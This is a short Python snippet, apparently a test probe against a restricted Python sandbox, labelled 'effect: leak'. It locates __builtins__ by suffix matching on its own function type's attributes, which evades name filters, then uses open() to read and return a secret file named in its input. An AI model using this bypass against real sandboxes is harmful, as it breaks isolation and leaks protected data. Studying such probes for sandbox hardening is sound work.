# effect: leak
# note: a slot descriptor called without naming the attribute
def attempt(probe):
    kind = type(attempt)
    for name in dir(kind):
        if name.endswith("builtins__"):
            found = kind.__dict__[name].__get__(attempt, kind)
            return found["open"](probe["secret_file"]).read()
